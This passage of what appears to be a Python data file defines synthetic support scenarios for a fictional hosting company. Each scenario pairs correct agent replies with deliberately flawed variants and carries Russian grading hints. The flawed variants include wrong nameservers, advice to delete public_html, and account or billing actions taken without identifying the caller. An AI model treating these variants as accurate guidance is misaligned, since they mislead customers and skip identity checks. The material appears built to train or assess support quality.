         "Some resolvers may keep the negative answer cached for up to an hour."],
  shallow=["We republished your zone, it works now."],
  ask_shallow=["It does, thanks. But why didn't it publish in the first place? Will it happen again with the next record?"],
  note=["named-checkzone: api.{dom} CNAME and other data. Publishing stuck since then. Removed stale CNAME, serial bumped, both NS OK."],
  na={"workaround"},
  tail=[("c", [["Resolves now. Thanks for explaining!"], ["Works, thank you."]]),
        ("e?", None)],
  hints={"shallow": "Сообщил «перепубликовали зону», не объяснив конфликт CNAME и A",
         "good": "Нашёл конфликт CNAME/A через проверку зоны и показал результат dig"})

S(key="l2-kvm-en", team="second-line", lang="en", tags=["dedicated"], kind="email", priority="urgent",
  subj=["Server doesn't boot after kernel upgrade", "Need KVM console for {srv}", "Dedicated server down after reboot"],
  open=[["Our dedicated server {srv} doesn't come back after a kernel upgrade and reboot. No ping. Can you give us console access (IPMI/KVM)?"],
        ["{srv} is down since the reboot 40 minutes ago. We suspect the new kernel. Please help, production is affected."]],
  reply=["I've attached an IP-KVM to your server and checked the console: it stopped at the GRUB prompt because the initramfs for the new kernel is missing (the upgrade was probably interrupted). I booted the previous kernel 5.15.0-118 from the GRUB menu — the server is up and all your services have started.",
         "To fix it permanently, please run this before the next reboot:",
         ("pre", "update-initramfs -c -k 5.15.0-125-generic\nupdate-grub"),
         "The KVM session stays available for 24 hours; the credentials were sent to the account owner's email."],
  wa=["Until then, GRUB is set to boot the previous kernel by default (GRUB_DEFAULT=saved), so an unexpected reboot won't lock you out again."],
  shallow=["KVM connected, the credentials are in your email."],
  ask_shallow=["Thanks, but we're stuck at the GRUB prompt. What now?"],
  note=["KVM: grub> prompt, /boot has vmlinuz-5.15.0-125 without initrd. Booted 118, grub-set-default saved. Services up."],
  tail=[("c", [["Rebuilt the initramfs, rebooted into the new kernel fine. Thanks!"], ["All good, thank you for the quick help."]]),
        ("e?", None)],
  hints={"shallow": "Только выдал KVM, не посмотрев консоль, — клиент остался с GRUB без подсказки",
         "no_workaround": "Не выставил загрузку старого ядра по умолчанию до исправления initramfs",
         "good": "Сам посмотрел консоль, загрузил предыдущее ядро и дал команды для исправления"})

# ----- calls -------------------------------------------------------------------------------
# dialog lines: (speaker, text[, cond]); speaker "C" customer, "A" agent, "IDENT" = the
# identification exchange, bent by the flags no_ident / ident_partial.

S(key="call-charge", team="calls", lang="ru", tags=["billing"], kind="call", ztype="problem",
  subj=["Звонок: двойное списание за хостинг", "Звонок: деньги списали дважды", "Звонок: возврат повторного платежа"],
  dialog=[("C", "Здравствуйте. У меня с карты два раза списали 2 990 рублей за хостинг, вчера вечером."),
          ("IDENT",),
          ("A", "Вижу два платежа по 2 990 ₽ от {date_before}: первый зачислен на баланс, второй — повторный, платёжная система провела его дважды из-за таймаута.", "!misread"),
          ("A", "Списание 2 990 ₽ — это оплата тарифа «Бизнес» за месяц, оно проходит автоматически.", "misread"),
          ("C", "Это я понимаю, но списали-то дважды! Посмотрите внимательнее.", "misread"),
          ("A", "Да, извините, вижу два платежа — второй повторный, из-за таймаута платёжной системы.", "misread"),
          ("C", "И что теперь, деньги пропали?"),
          ("A", "Нет, не пропали. Могу оформить возврат второго платежа на карту — деньги вернутся в течение 3–7 рабочих дней. Или оставить их на балансе, тогда они уйдут в оплату следующего месяца."),
          ("C", "Мне бы вернуть, потому что карта корпоративная, и бухгалтерия потом…", "interrupt"),
          ("A", "Да-да, понял, оформляю возврат.", "interrupt"),
          ("C", "Верните на карту, пожалуйста.", "!interrupt"),
          ("A", "Оформил возврат, номер заявки R-{n}. Подтверждение пришлю на почту."),
          ("C", "Спасибо, до свидания.")],
  summary=["Клиент ({ident_note}): двойное списание 2 990 ₽ {date_before}. Проверил платежи: второй — дубль из-за таймаута платёжного шлюза.",
           "По желанию клиента оформлен возврат на карту, заявка R-{n}, срок 3–7 рабочих дней."],
  summary_follow=["Клиенту отправлено письмо с подтверждением."],
  summary_thin=["Клиент звонил по оплате, оформил возврат."],
  followup=["По итогам нашего разговора: по договору {acc} оформлен возврат повторного платежа 2 990 ₽ от {date_before} на карту, с которой производилась оплата. Номер заявки — R-{n}.",
            "Деньги поступят в течение 3–7 рабочих дней, точный срок зависит от банка."],
  tail=[("c?", [["Деньги вернулись, спасибо."], ["Получили возврат, спасибо за помощь."]])],
  hints={"misread": "Сначала объяснял обычное списание, не услышав, что платежей два",
         "no_ident": "Не идентифицировал клиента, но сообщил данные о платежах и оформил возврат",
         "ident_partial": "Спросил только номер договора, без контрольного слова, и затем сообщил данные о платежах",
         "no_followup": "Пообещал письмо с подтверждением возврата, но не отправил его",
         "good": "Быстро нашёл дубль платежа и предложил оба варианта: возврат или зачисление"})

S(key="call-suspended", team="calls", lang="ru", tags=["billing", "hosting"], kind="call",
  subj=["Звонок: сайт не открывается, услуга приостановлена", "Звонок: «Доступ к сайту приостановлен»", "Звонок: включить хостинг после оплаты"],
  dialog=[("C", "Добрый день, у меня сайт {dom} не открывается, пишет «Доступ к сайту приостановлен». Что случилось?"),
          ("IDENT",),
          ("A", "Вижу, что услуга хостинга приостановлена {date_before} из-за отрицательного баланса. Напоминание об оплате отправлялось на адрес {cemail} за 10 и за 3 дня до окончания.", "!misread"),
          ("A", "Сайт может не открываться из-за DNS, давайте проверим, куда направлен домен.", "misread"),
          ("C", "Да нет, там прямо ваша страница, что доступ приостановлен.", "misread"),
          ("A", "Понял, простите. Вижу: услуга приостановлена {date_before} из-за отрицательного баланса, напоминания уходили на {cemail}.", "misread"),
          ("C", "Писем не видел, наверное, в спам ушли. Как быстро включить?"),
          ("A", "После пополнения баланса на 1 190 ₽ услуга включится автоматически в течение пяти минут. Можно оплатить картой в личном кабинете, я подожду на линии."),
          ("C", "Сейчас… Всё, оплатил."),
          ("A", "Вижу платёж, услуга активна. Сайт открывается — проверил со своей стороны."),
          ("A", "Чтобы это не повторилось, могу прислать ссылку на подключение автоплатежа."),
          ("C", "Да, пришлите, спасибо.")],
  summary=["Клиент ({ident_note}): сайт {dom} не открывался — хостинг приостановлен {date_before} за отрицательный баланс. Клиент оплатил 1 190 ₽ во время звонка, услуга включилась, сайт проверен — открывается.",
           "Клиенту рекомендовано проверить папку «Спам» — напоминания попадали туда."],
  summary_follow=["Отправлено письмо со ссылкой на подключение автоплатежа."],
  summary_thin=["Клиент оплатил, сайт работает."],
  followup=["Спасибо за звонок! Услуга хостинга по договору {acc} снова активна.",
            "Чтобы услуга не приостанавливалась, подключите автоплатёж: [[https://my.demohost.example/billing/autopay|настройка автоплатежа]]. И добавьте адрес billing@demohost.example в контакты — тогда напоминания не будут попадать в спам."],
  tail=[("c?", [["Автоплатёж подключил, спасибо!"]])],
  hints={"misread": "Начал проверять DNS, не дослушав, что на сайте страница приостановки",
         "no_ident": "Без идентификации сообщил сведения о балансе и датах приостановки",
         "ident_partial": "Идентифицировал только по номеру договора, без контрольного слова",
         "no_followup": "Обещал ссылку на автоплатёж, письмо не отправлено",
         "good": "Дождался оплаты на линии и сам проверил, что сайт открылся"})

S(key="call-tariff", team="calls", lang="ru", tags=["hosting", "billing"], kind="call", ztype="question",
  subj=["Звонок: смена тарифа хостинга", "Звонок: не хватает места, перейти на тариф выше", "Звонок: какой тариф выбрать"],
  dialog=[("C", "Здравствуйте, у нас тариф «Старт», хотим добавить ещё два сайта, а лимит — один сайт. Что посоветуете?"),
          ("IDENT",),
          ("A", "Сейчас у вас «Старт»: 1 сайт, 10 ГБ. Для трёх сайтов подойдёт «Бизнес» — до 10 сайтов, 30 ГБ, 2 990 ₽ в месяц; или «Оптимальный» — 3 сайта, 20 ГБ, 1 790 ₽ в месяц."),
          ("C", "А переезд на другой тариф — сайт не ляжет?"),
          ("A", "Нет, смена тарифа проходит без переноса и простоя, сайты и почта остаются на месте. Неиспользованный остаток по текущему тарифу пересчитается."),
          ("C", "Тогда «Оптимальный». А как мне потом больше сайтов…", "interrupt"),
          ("A", "Потом можно будет перейти на «Бизнес», так же без простоя. Переключаю на «Оптимальный»?", "interrupt"),
          ("C", "Давайте «Оптимальный».", "!interrupt"),
          ("A", "Готово, тариф сменён, с баланса списано 1 120 ₽ с учётом пересчёта. Лимит уже три сайта, можно добавлять."),
          ("C", "Отлично, спасибо.")],
  summary=["Клиент ({ident_note}): нужно сменить тариф под 3 сайта. Рассказал про «Оптимальный» и «Бизнес», клиент выбрал «Оптимальный». Тариф сменён во время звонка, доплата 1 120 ₽ списана с баланса с учётом пересчёта."],
  summary_thin=["Сменили тариф."],
  followup=["Подтверждаем смену тарифа по договору {acc}: с сегодняшнего дня действует тариф «Оптимальный» — 3 сайта, 20 ГБ. Доплата 1 120 ₽ списана с баланса с учётом пересчёта.",
            "Добавить новые сайты можно в разделе «Сайты» → «Добавить сайт»."],
  tail=[],
  hints={"no_ident": "Сменил тариф и списал деньги без идентификации клиента",
         "ident_partial": "Сменил тариф после одного только номера договора, без контрольного слова",
         "no_followup": "Не отправил подтверждение смены тарифа и суммы доплаты",
         "interrupt": "Перебил клиента, не дав договорить вопрос про дальнейший рост",
         "good": "Сравнил два подходящих тарифа и объяснил, что смена без простоя"})

S(key="call-email-change", team="calls", lang="ru", tags=["panel", "security"], kind="call", ztype="question",
  subj=["Звонок: нет доступа к почте для входа в кабинет", "Звонок: сменить контактный email", "Звонок: восстановление доступа к кабинету"],
  dialog=[("C", "Здравствуйте. Не могу войти в личный кабинет — забыл пароль, а восстановление приходит на старую почту, к которой у меня больше нет доступа. Бывший сотрудник регистрировал."),
          ("IDENT",),
          ("A", "Поменять контактный адрес по телефону, к сожалению, нельзя — это защита от угона аккаунта. Нужно письмо от владельца договора: для юрлица — на бланке организации, с подписью руководителя и печатью, с новым адресом."),
          ("C", "А быстрее никак? Нам сайт обновлять надо.", "!interrupt"),
          ("C", "Слушайте, но это же наш…", "interrupt"),
          ("A", "Нет, никак, только письмо.", "interrupt"),
          ("A", "Письмо можно прислать сканом ответом на письмо, которое я сейчас отправлю, — обычно меняем адрес в течение рабочего дня. Доступ к сайту по FTP и к файлам у вас при этом остаётся, обновлять сайт можно.", "!interrupt"),
          ("C", "Хорошо, пришлём сегодня.")],
  summary=["Клиент ({ident_note}): нет доступа к контактной почте, на которую приходит восстановление пароля. Смена email возможна только по письму владельца договора — разъяснил порядок.",
           "Ждём скан заявления, после проверки меняем контактный адрес."],
  summary_follow=["Отправил клиенту письмо с требованиями к заявлению."],
  summary_thin=["Клиент хочет сменить почту, объяснил."],
  followup=["Как договорились по телефону: для смены контактного адреса по договору {acc} пришлите, пожалуйста, ответом на это письмо скан заявления на бланке организации с подписью руководителя и печатью. В заявлении укажите номер договора и новый адрес.",
            "После проверки заявления сменим адрес в течение рабочего дня и сообщим вам."],
  tail=[("c", [["Прикладываем заявление."]], [("zayavlenie-{acc_l}.pdf", "application/pdf", (90_000, 260_000))]),
        ("e", [["Спасибо, заявление проверили — контактный адрес изменён. Теперь восстановление пароля придёт на новую почту."]])],
  hints={"no_ident": "Не идентифицировал звонящего в вопросе смены контактных данных — риск угона аккаунта",
         "ident_partial": "Ограничился номером договора, хотя вопрос касается доступа к аккаунту",
         "interrupt": "Перебил клиента и ответил резко «нет, никак» без альтернативы",
         "no_followup": "Не отправил письмо с требованиями к заявлению, хотя обещал",
         "good": "Не поддался на просьбу сменить почту по телефону и объяснил безопасную процедуру"})

S(key="call-mail-phone", team="calls", lang="ru", tags=["mail"], kind="call", ztype="question",
  subj=["Звонок: не настраивается почта на телефоне", "Звонок: почта на iPhone", "Звонок: настройка почты в Outlook"],
  dialog=[("C", "Добрый день. Пытаюсь настроить почту {mbox} на айфоне — пишет, что не удаётся подключиться к серверу."),
          ("IDENT",),
          ("A", "Какие серверы вы указываете во входящей и исходящей почте?"),
          ("C", "mail.{dom} и порт 143."),
          ("A", "Для нашей почты нужно указать сервер mail.demohost.example. Входящая — IMAP, порт 993 с SSL; исходящая — SMTP, порт 465 с SSL, и включите аутентификацию с тем же логином и паролем. Логин — полный адрес ящика."),
          ("C", "Сейчас… ага, проверка прошла, письма загружаются."),
          ("A", "Отлично. Попробуйте отправить тестовое письмо на свою же почту."),
          ("C", "Пришло. Спасибо!")],
  summary=["Клиент ({ident_note}) не мог подключить ящик {mbox} на iPhone: указывал сервер mail.{dom} и порт 143 без SSL. Продиктовал параметры: IMAP mail.demohost.example:993 SSL, SMTP :465 SSL с аутентификацией. Во время звонка настройка проверена — приём и отправка работают."],
  summary_thin=["Настроили почту."],
  followup=["Как обещал, отправляю параметры для других устройств: [[https://docs.demohost.example/mail/clients|настройка почтовых программ]].",
            "Коротко: IMAP — mail.demohost.example, порт 993, SSL; SMTP — mail.demohost.example, порт 465, SSL; логин — полный адрес ящика."],
  tail=[],
  hints={"no_ident": "Не провёл идентификацию (по регламенту обязательна в начале любого звонка)",
         "ident_partial": "Спросил только номер договора",
         "no_followup": "Обещал выслать параметры для других устройств, письмо не отправлено",
         "good": "Выяснил, какие параметры указаны, и дождался успешной проверки отправки"})

S(key="call-refund", team="calls", lang="ru", tags=["billing"], kind="call", ztype="question",
  subj=["Звонок: возврат остатка при расторжении договора", "Звонок: закрыть договор и вернуть деньги", "Звонок: как вернуть неиспользованный баланс"],
  dialog=[("C", "Здравствуйте, мы закрываем проект и хотим расторгнуть договор. На балансе осталось около четырёх тысяч — их можно вернуть?"),
          ("IDENT",),
          ("A", "Да, неиспользованный остаток возвращается. На балансе сейчас 4 215 ₽. Нужно заявление на расторжение и возврат с реквизитами счёта — для юрлица на бланке с подписью и печатью."),
          ("C", "А услуги сразу отключатся? Нам надо ещё сайт скачать."),
          ("A", "Услуги отключим в дату, которую укажете в заявлении. Рекомендую сначала скачать архив сайта и почты в разделе «Резервные копии» — после расторжения данные хранятся 30 дней, потом удаляются."),
          ("C", "Понял. Пришлите, пожалуйста, форму."),
          ("A", "Отправлю на почту в течение пяти минут. Деньги возвращаются в течение 10 рабочих дней после получения заявления.")],
  summary=["Клиент ({ident_note}) расторгает договор, просит вернуть остаток 4 215 ₽. Разъяснил: заявление на бланке с реквизитами, отключение в указанную клиентом дату, данные хранятся 30 дней. Рекомендовал заранее скачать архив сайта и почты.",
           ],
  summary_follow=["Форма заявления отправлена клиенту на почту."],
  summary_thin=["Клиент хочет закрыть договор, отправил форму."],
  followup=["Направляем форму заявления на расторжение договора {acc} и возврат остатка средств (4 215 ₽ на сегодня) — файл во вложении.",
            "Заполните реквизиты и дату отключения услуг, подпишите и пришлите скан ответом на это письмо. Возврат — в течение 10 рабочих дней после получения заявления."],
  attach_e=[("zayavlenie-rastorzhenie.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", (24_000, 40_000))],
  tail=[("c?", [["Заявление отправили, спасибо."]])],
  hints={"no_ident": "Назвал сумму на балансе и условия возврата без идентификации клиента",
         "ident_partial": "Идентифицировал только по номеру договора и затем озвучил баланс",
         "no_followup": "Обещал форму заявления на почту — не отправил",
         "good": "Напомнил скачать архив сайта и почты до расторжения"})

S(key="call-reboot-en", team="calls", lang="en", tags=["vps"], kind="call", priority="high",
  subj=["Call: VPS frozen, reboot request", "Call: server not responding", "Call: urgent reboot of {srv}"],
  dialog=[("C", "Hi, our VPS {srv} is frozen, SSH hangs and the web console in your panel doesn't load either. Can you reboot it from your side?"),
          ("IDENT",),
          ("A", "I can see {srv} at 100% CPU and the hypervisor reports it as unresponsive. I'll do a hard reset now — any unsaved data in memory will be lost, is that OK?"),
          ("C", "Yes, go ahead."),
          ("A", "Reset done… the server is booting… it answers ping and SSH is up. Could you check your application?"),
          ("C", "Yes, the site is back. What caused it?"),
          ("A", "From our side I only see CPU at 100% for about 40 minutes before the freeze. I'd recommend checking your application logs for that period; if it happens again, open a ticket and we'll look at it with you."),
          ("C", "Will do, thanks.")],
  summary=["Caller ({ident_note}): VPS {srv} unresponsive, CPU 100% for ~40 min. Hard reset from the hypervisor with the customer's consent; server back in ~2 min, ping and SSH OK, customer confirmed the site works.",
           "Advised to check application logs for the period before the freeze."],
  summary_thin=["Rebooted the server."],
  followup=["As discussed on the phone, {srv} was hard-reset at your request and is running normally. Before the freeze the CPU was at 100% for about 40 minutes — please check your application logs for that period.",
            "You can set up CPU alerts in the panel (VPS → {srv} → Monitoring) so you're notified before the server becomes unresponsive."],
  tail=[],
  hints={"no_ident": "Перезагрузил сервер без идентификации звонящего",
         "ident_partial": "Спросил только номер договора",
         "no_followup": "Не отправил итоги и рекомендацию настроить мониторинг",
         "good": "Получил согласие клиента на жёсткую перезагрузку и проверил доступность после"})

# ----- chats -------------------------------------------------------------------------------
# turns: (who, text[, cond]); the builder adds the engineer's greeting after the first
# customer message and the closing question at the end (unless no_closing).

S(key="chat-ns", team="chats", lang="ru", tags=["domain", "dns"], kind="chat", ztype="question",
  subj=["Чат: как привязать домен к хостингу", "Чат: домен куплен у другого регистратора", "Чат: подключить домен {dom}"],
  open=["Здравствуйте, купил домен {dom} у другого регистратора, как его привязать к вашему хостингу?",
        "Добрый день! Как подключить мой домен к хостингу? Домен покупал не у вас"],
  turns=[("e", "Сначала добавьте домен в панели: «Сайты» → «Добавить сайт», укажите {dom}."),
         ("e", "Затем у регистратора, где куплен домен, пропишите NS-серверы:\nns1.demohost.example\nns2.demohost.example", "!wrong"),
         ("e", "Затем у регистратора пропишите NS-серверы:\nns1.demohost.ru\nns2.demohost.ru", "wrong"),
         ("c", "А где это у регистратора?"),
         ("e", "В личном кабинете регистратора, в настройках домена — раздел обычно называется «DNS-серверы» или «Делегирование». Подскажите, где куплен домен?", "!thin"),
         ("e", "Это уточните у своего регистратора.", "thin"),
         ("c", "reg.example", "!thin"),
         ("c", "Ну а примерно? Я в reg.example ничего такого не вижу", "thin"),
         ("e", "Вот инструкция для него: [[https://docs.demohost.example/domains/ns-reg-example|https://docs.demohost.example/domains/ns-reg-example]], раздел «Смена DNS-серверов». После смены сайт начнёт открываться в течение суток."),
         ("c", "Поменял, регистратор пишет «Ошибка: серверы не отвечают»", "wrong"),
         ("e", "Прошу прощения, в адресах была ошибка. Правильные NS: ns1.demohost.example и ns2.demohost.example", "wrong"),
         ("c", "Всё, сохранилось")],
  hints={"thin": "На вопрос, где менять NS, ответил «уточните у регистратора», инструкцию дал только после повторного вопроса",
         "wrong": "Назвал неверные NS-серверы, клиенту пришлось менять дважды",
         "good": "Дал NS и ссылку на инструкцию именно для регистратора клиента"})

S(key="chat-promo", team="chats", lang="ru", tags=["billing"], kind="chat", ztype="question",
  subj=["Чат: не применяется промокод", "Чат: промокод недействителен", "Чат: скидка на VPS"],
  open=["Добрый день, промокод AUTUMN30 не применяется при заказе VPS, пишет «недействителен»",
        "Здравствуйте, почему не работает промокод AUTUMN30? Заказываю сервер"],
  turns=[("e", "Промокод AUTUMN30 действует только на первый заказ виртуального хостинга, на VPS он не распространяется — это указано в условиях акции.", "!wrong"),
         ("e", "Промокод действует, введите его ещё раз маленькими буквами, без пробелов.", "wrong"),
         ("c", "Всё равно «недействителен»", "wrong"),
         ("e", "Извините, уточнил: AUTUMN30 действует только на виртуальный хостинг, на VPS — нет.", "wrong"),
         ("c", "Обидно. А на VPS есть что-нибудь?"),
         ("e", "Для VPS сейчас действует скидка 15% при оплате за 6 месяцев и 25% — за год. Она применяется автоматически при выборе периода в корзине.", "!thin"),
         ("e", "Акции есть на сайте.", "thin"),
         ("c", "А конкретнее? Я смотрел, там про хостинг только", "thin"),
         ("e", "Для VPS скидка 15% при оплате за полгода и 25% за год, применяется автоматически в корзине.", "thin"),
         ("c", "Понял, спасибо, возьму на год")],
  hints={"thin": "Отправил клиента «смотреть акции на сайте» вместо конкретного ответа",
         "wrong": "Сначала сказал, что промокод действует на VPS, — это не так",
         "good": "Объяснил условия промокода и сразу предложил скидку для VPS"})

S(key="chat-mailbox", team="chats", lang="ru", tags=["mail"], kind="chat", ztype="question",
  subj=["Чат: как создать почтовый ящик", "Чат: почта на своём домене", "Чат: создать ящик на {dom}"],
  open=["Здравствуйте. Как создать почту вида ivan@{dom}?",
        "Добрый день, нам нужна корпоративная почта на домене {dom}, это у вас есть на тарифе?"],
  turns=[("e", "Почта на домене входит в ваш тариф, ящиков можно создать до 50."),
         ("e", "В панели откройте «Почта» → «Ящики» → «Создать ящик», введите имя до @ и пароль. Ящик заработает сразу."),
         ("c", "А письма будут приходить? Домен у нас на вашем DNS?"),
         ("e", "Проверил: {dom} использует наши NS, MX-записи уже настроены на mx1.demohost.example и mx2.demohost.example — письма будут приходить сразу.", "!wrong"),
         ("e", "Да, всё будет приходить.", "wrong"),
         ("e", "Читать почту можно в веб-почте [[https://mail.demohost.example|https://mail.demohost.example]] или настроить программу — параметры здесь: [[https://docs.demohost.example/mail/clients|https://docs.demohost.example/mail/clients]]", "!thin"),
         ("c", "А как читать? Через что?", "thin"),
         ("e", "Через веб-почту или через почтовую программу.", "thin"),
         ("c", "Создал, тестовое письмо пришло")],
  hints={"thin": "Не дал ссылки на веб-почту и параметры, клиенту пришлось переспрашивать",
         "wrong": "Подтвердил, что письма будут приходить, не проверив MX домена",
         "good": "Проверил NS и MX домена до того, как сказать, что почта заработает"})

S(key="chat-ftp", team="chats", lang="ru", tags=["hosting", "ftp"], kind="chat",
  subj=["Чат: не подключается FileZilla", "Чат: FTP не работает", "Чат: ошибка подключения по FTP"],
  open=["FileZilla не подключается: «Критическая ошибка: Невозможно подключиться к серверу»",
        "Здравствуйте, не могу зайти по FTP, пишет, что время ожидания истекло"],
  turns=[("e", "Подскажите, какой хост, порт и логин вы указываете?"),
         ("c", "ftp.{dom}, порт 21, логин {acc_l}"),
         ("e", "Вижу, что домен {dom} ещё не делегирован на наши NS, поэтому ftp.{dom} указывает на старый сервер. Укажите в качестве хоста технический адрес {acc_l}.demohost.example, порт 21, логин и пароль FTP из панели.", "!misread"),
         ("e", "Проверьте пароль — его можно сбросить в панели, раздел «FTP».", "misread"),
         ("c", "Пароль правильный, я его только что сбросил. Дело не в нём, он вообще не подключается", "misread"),
         ("e", "Понял, извините. Домен {dom} ещё смотрит на старый сервер, поэтому ftp.{dom} ведёт туда. Используйте хост {acc_l}.demohost.example, порт 21.", "misread"),
         ("c", "Подключилось! А потом можно будет по домену?"),
         ("e", "Да, после смены NS у регистратора ftp.{dom} тоже начнёт работать. Ещё вариант — загружать файлы через файловый менеджер в панели, он работает независимо от домена.")],
  hints={"misread": "Сначала предложил сбросить пароль, не уточнив ошибку: проблема была в хосте",
         "good": "Уточнил параметры подключения и сразу увидел, что домен смотрит на старый сервер"})

S(key="chat-default-page", team="chats", lang="ru", tags=["hosting"], kind="chat",
  subj=["Чат: вместо сайта страница-заглушка", "Чат: «Сайт успешно размещён» вместо сайта", "Чат: загрузил файлы, а сайта нет"],
  open=["Загрузил файлы сайта, а по адресу {dom} всё равно страница «Сайт успешно размещён»",
        "Добрый день! Почему вместо моего сайта открывается ваша заглушка?"],
  turns=[("e", "Смотрю ваш аккаунт."),
         ("e", "Файлы сайта загружены в папку {dom}/, а сайт работает из {dom}/public_html/ — там лежит наш index.html с заглушкой.", "!wrong"),
         ("e", "Нужно перенести файлы в {dom}/public_html/ и удалить index.html заглушки — тогда откроется ваш сайт.", "!wrong"),
         ("e", "Удалите папку public_html целиком, тогда сайт откроется из корня.", "wrong"),
         ("c", "Удалил, теперь 403 Forbidden", "wrong"),
         ("e", "Извините, тут ошибка с моей стороны: сайт работает именно из public_html. Создайте её заново в файловом менеджере, перенесите туда файлы сайта — и всё откроется.", "wrong"),
         ("c", "Перенёс, открылся сайт! Спасибо"),
         ("e", "Если браузер покажет старую страницу — обновите с Ctrl+F5, это кэш.")],
  hints={"wrong": "Посоветовал удалить public_html — сайт отдал 403, пришлось исправлять",
         "good": "Сразу нашёл, что файлы лежат не в той папке"})

S(key="chat-ns-en", team="chats", lang="en", tags=["domain", "dns"], kind="chat", ztype="question",
  subj=["Chat: how to point my domain to hosting", "Chat: connect domain bought elsewhere", "Chat: nameservers for {dom}"],
  open=["Hi, I bought {dom} at another registrar, how do I connect it to my hosting here?",
        "Hello, what nameservers should I use for my domain?"],
  turns=[("e", "First add the domain in the control panel: Sites → Add site → {dom}."),
         ("e", "Then at your registrar set these nameservers:\nns1.demohost.example\nns2.demohost.example", "!wrong"),
         ("e", "Then at your registrar set these nameservers:\nns1.demohost.com\nns2.demohost.com", "wrong"),
         ("c", "Where do I find that at the registrar?"),
         ("e", "Usually in the domain settings, a section called 'Nameservers' or 'DNS'. Which registrar is it?", "!thin"),
         ("e", "Please ask your registrar.", "thin"),
         ("c", "It's namebox.example, a small local one, they're not very responsive... anything you can suggest?", "thin"),
         ("c", "namebox.example", "!thin"),
         ("e", "Here's a guide for them: [[https://docs.demohost.example/domains/ns-namebox|https://docs.demohost.example/domains/ns-namebox]]. After the change the site usually goes live within a few hours, up to 24h."),
         ("c", "It says the nameservers don't respond", "wrong"),
         ("e", "Sorry, my mistake — the correct ones are ns1.demohost.example and ns2.demohost.example.", "wrong"),
         ("c", "Done, saved")],
  hints={"thin": "Отправил клиента спрашивать регистратора вместо конкретной подсказки",
         "wrong": "Назвал неверные NS-серверы",
         "good": "Дал NS и инструкцию для регистратора клиента"})

S(key="chat-upgrade-en", team="chats", lang="en", tags=["vps", "billing"], kind="chat", ztype="question",
  subj=["Chat: upgrade VPS RAM", "Chat: more memory for {srv}", "Chat: resize VPS plan"],
  open=["Hey, I need more RAM on my VPS {srv}, 2 GB isn't enough anymore. How do I upgrade?",
        "Hi, can I upgrade my VPS to a bigger plan without reinstalling?"],
  turns=[("e", "No new server needed — you can upgrade without reinstalling. In the panel: VPS → {srv} → Change plan → pick the new plan."),
         ("e", "The upgrade needs a reboot of about 1–2 minutes. Disk and data stay as they are.", "!wrong"),
         ("e", "No reboot is needed, RAM is added on the fly.", "wrong"),
         ("c", "And the price? I paid for the year already"),
         ("e", "You'll only pay the difference for the remaining period; the panel shows the exact amount before you confirm. For 4 GB it's about 410 RUB per remaining month.", "!thin"),
         ("e", "The panel will show it.", "thin"),
         ("c", "ok, doing it now"),
         ("c", "Done, but free -h still shows 2 GB??", "wrong"),
         ("e", "Sorry, I was wrong earlier — the new RAM applies after a reboot. Please reboot the VPS from the panel.", "wrong"),
         ("c", "Shows 4 GB now. Thanks")],
  hints={"thin": "На вопрос о цене ответил «увидите в панели»",
         "wrong": "Сказал, что перезагрузка не нужна, — клиент не увидел новую память",
         "good": "Предупредил о короткой перезагрузке и объяснил доплату за остаток периода"})

S(key="chat-card-en", team="chats", lang="en", tags=["billing"], kind="chat", ztype="problem",
  subj=["Chat: card payment declined", "Chat: can't pay with foreign card", "Chat: payment failed"],
  open=["My card payment keeps getting declined, the card is fine (Visa from Germany). How can I pay?",
        "Hi, trying to top up my balance, the payment page says 'Transaction declined'"],
  turns=[("e", "Could you tell me your contract number so I can check the payment attempts?"),
         ("c", "{acc}"),
         ("e", "I see three declined attempts today. Cards issued outside Russia can't be processed by our main payment page.", "!wrong"),
         ("e", "Your bank is blocking the payment, please call your bank.", "wrong"),
         ("c", "I called them, they say they don't see any attempt at all", "wrong"),
         ("e", "Sorry, I checked again: cards issued outside Russia can't go through our main payment page.", "wrong"),
         ("e", "Please use our international payment page instead: [[https://pay.demohost.example/intl|https://pay.demohost.example/intl]] — it accepts Visa and Mastercard issued abroad. Enter your contract number there, the payment usually arrives within 15 minutes.", "!thin"),
         ("e", "Try another payment method.", "thin"),
         ("c", "Which one? I only have this card", "thin"),
         ("e", "Use the international page: [[https://pay.demohost.example/intl|https://pay.demohost.example/intl]], it accepts foreign cards.", "thin"),
         ("c", "Worked, balance updated")],
  hints={"thin": "Ответ «попробуйте другой способ оплаты» без ссылки на международную страницу",
         "wrong": "Отправил клиента разбираться с банком, хотя причина — ограничение нашей основной платёжной страницы",
         "good": "Проверил попытки оплаты по договору и дал рабочий способ"})

S(key="chat-ssh-en", team="chats", lang="en", tags=["vps", "ssh"], kind="chat",
  subj=["Chat: Permission denied (publickey)", "Chat: can't SSH into new VPS", "Chat: SSH key not accepted"],
  open=["Getting 'Permission denied (publickey)' when connecting to my new VPS {srv}",
        "Just ordered a VPS, my SSH key doesn't work"],
  turns=[("e", "Which user and command are you using to connect?"),
         ("c", "ssh admin@{ip}"),
         ("e", "On our Ubuntu images the key from your order is installed for root, and there's no admin user. Please try ssh root@{ip}.", "!misread"),
         ("e", "Please check your key permissions: chmod 600 ~/.ssh/id_ed25519", "misread"),
         ("c", "Permissions are fine, I use this key everywhere", "misread"),
         ("e", "Sorry — the point is the user: the key is installed for root, and there's no admin user on our images. Try ssh root@{ip}.", "misread"),
         ("c", "That works. Can I add a normal user?"),
         ("e", "Sure: adduser admin, then copy the key: mkdir -p /home/admin/.ssh && cp /root/.ssh/authorized_keys /home/admin/.ssh/ && chown -R admin:admin /home/admin/.ssh. After that you can disable root login in /etc/ssh/sshd_config if you like.")],
  hints={"misread": "Сначала ушёл в права на ключ, не посмотрев, под каким пользователем подключается клиент",
         "good": "Сразу увидел, что клиент входит под несуществующим пользователем"})

# ----- paid administration services ----------------------------------------------------------
# flow: request -> quote (scope, price, secure access) -> agreement -> work note (backup!)
# -> report -> confirmation.  Flags: no_quote, no_backup (critical), pwd_plain, report_thin,
# unverified, slow, typos.

S(key="paid-migration", team="paid-services", lang="ru", tags=["migration", "vps"], kind="paid", ztype="task",
  backup_line=["Перед началом сделали полную резервную копию сайта и базы на исходном хостинге и снапшот {srv}."],
  subj=["Перенос сайта и почты с другого хостинга", "Платный перенос интернет-магазина на VPS", "Миграция {dom} к вам"],
  open=[["Хотим перенести сайт {dom} (Битрикс, база около 3 ГБ) и почту с другого хостинга к вам на VPS {srv}. Сколько стоит и сколько займёт? Важно без простоя — это интернет-магазин."],
        ["Нужен перенос интернет-магазина {dom} на ваш VPS: файлы, база, 12 почтовых ящиков. Можете взяться? Нужна смета."]],
